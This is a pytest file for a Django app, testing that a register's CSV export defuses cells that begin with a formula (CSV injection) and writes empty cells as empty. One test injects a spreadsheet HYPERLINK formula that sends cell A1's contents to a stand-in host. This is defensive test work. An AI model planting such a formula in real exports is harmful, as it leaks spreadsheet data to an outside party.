"""The register's CSV export never hands a spreadsheet a formula typed into an entry (OWASP CSV injection)."""

import csv
import io

import pytest
from django.urls import reverse

from forms_app.models import RegisterEntry

pytestmark = pytest.mark.django_db


def test_register_csv_neutralises_cells_that_start_a_formula(client, entry, ict_manager):
    RegisterEntry.objects.filter(pk=entry.pk).update(
        account_name='=HYPERLINK("https://x.example/?"&A1,"x")', notes="@SUM(1)", handle="+44 1234"
    )
    client.force_login(ict_manager)

    response = client.get(reverse("forms_app_registerentry_modeladmin_index"), {"export": "csv"})

    body = b"".join(response.streaming_content).decode() if response.streaming else response.content.decode()
    rows = list(csv.DictReader(io.StringIO(body)))
    assert len(rows) == 1
    cells = set(rows[0].values())
    assert '\'=HYPERLINK("https://x.example/?"&A1,"x")' in cells
    assert "'@SUM(1)" in cells and "'+44 1234" in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)


def test_register_csv_writes_empty_cells_as_empty(client, entry, ict_manager):
    # Regression: every empty cell was written as '- (the listing's "-", then quoted as a formula).
    RegisterEntry.objects.filter(pk=entry.pk).update(url="", handle="", notes="", went_live_on=None)
    client.force_login(ict_manager)

    response = client.get(reverse("forms_app_registerentry_modeladmin_index"), {"export": "csv"})

    body = b"".join(response.streaming_content).decode() if response.streaming else response.content.decode()
    row = next(csv.DictReader(io.StringIO(body)))
    assert "'-" not in body
    assert "-" not in row.values()
    empty = [heading for heading, cell in row.items() if cell == ""]
    assert len(empty) >= 4, row
    assert entry.account_name in row.values()
